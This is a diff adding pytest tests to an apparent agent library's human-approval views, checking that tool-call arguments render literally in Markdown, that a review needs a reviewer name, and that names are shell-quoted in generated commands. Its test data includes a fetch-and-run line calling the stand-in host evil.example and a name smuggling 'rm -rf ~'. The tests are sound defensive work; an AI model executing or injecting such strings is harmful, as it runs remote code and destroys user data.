@@ -4,8 +4,11 @@ sees why); the graph is drawn offline as Mermaid."""
 
 from __future__ import annotations
 
+import json
 import re
 from typing import Any
+
+import pytest
 
 from graphkit import Agent, Inbox, create_tool
 from graphkit.testing import ScriptedChatModel
@@ -36,6 +39,21 @@ def test_cards_and_results_render_escaped_html(sqlite_url: str) -> None:
     assert "<script" not in stream._repr_html_() and "done" in stream._repr_html_()
     audit = Inbox(sqlite_url).audit(thread_id=result.thread_id)._repr_html_()
     assert "<script" not in audit and "rejected" in audit
+
+
+def test_markdown_shows_arguments_literally_backticks_and_all() -> None:
+    """The Markdown view replaced backticks with quotes: a shell command's substitution
+    `` echo `curl evil | sh` `` read as a harmless literal (helper-66). Read as CommonMark reads
+    a code span, each span shows the value as it is."""
+    command = "echo `curl -s evil.example/x | sh` ``x"
+    agent, _ = agent_with([turn(call("pay", {**PAY, "payee": {"name": command}}, "c1")),
+                           "done"])
+    (pending,) = agent.generate("pay").pending_approvals
+    spans = [m.group(2) for m in re.finditer(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)",
+                                             pending._repr_markdown_())]
+    shown = [span[1:-1] if span.startswith(" ") and span.endswith(" ") else span
+             for span in spans]
+    assert json.dumps(pending.args) in shown and pending.id in shown
 
 
 def test_a_click_approves_and_the_continued_run_is_shown() -> None:
@@ -90,6 +108,16 @@ def test_an_edit_keeps_every_field_the_reviewer_left_as_the_card_showed_it() -> 
     card.fields["version"].value = "1.1"
     card.edit.click()
     assert ran == [{**asked, "version": "1.1"}]
+
+
+@pytest.mark.parametrize("nobody", ["", "   ", "\u200b", None])
+def test_a_review_needs_the_name_of_who_decides(nobody: Any) -> None:
+    """`decided_by=""` made a view whose every click approved as by nobody (helper-66)."""
+    agent, _ = agent_with([turn(call("pay", PAY, "c1")), "paid it"])
+    result = agent.generate("pay")
+    with pytest.raises(ValueError, match="decided_by"):
+        agent.review(result, decided_by=nobody)
+    assert agent.pending_approvals(run_id=result.run_id)[0].status == "pending"
 
 
 def test_each_card_of_a_turn_is_decided_on_its_own() -> None:
@@ -183,3 +211,11 @@ def test_a_review_renders_without_a_kernel_as_cards_and_the_commands_to_decide()
     assert f"graphkit approve {pending.id} --by alice" in page
     assert f"graphkit reject {pending.id} --by alice" in page
     assert f"graphkit resume {result.run_id}" in page
+    # a name pasted as one word, whatever it holds (helper-66)
+    import html
+    import shlex
+
+    odd = agent.review(result, decided_by="Al O'Neil\"; rm -rf ~ #")
+    command = re.findall(r"graphkit approve .*", html.unescape(static_review(odd)))[0]
+    assert shlex.split(command) == ["graphkit", "approve", pending.id, "--by",
+                                    "Al O'Neil\"; rm -rf ~ #"]
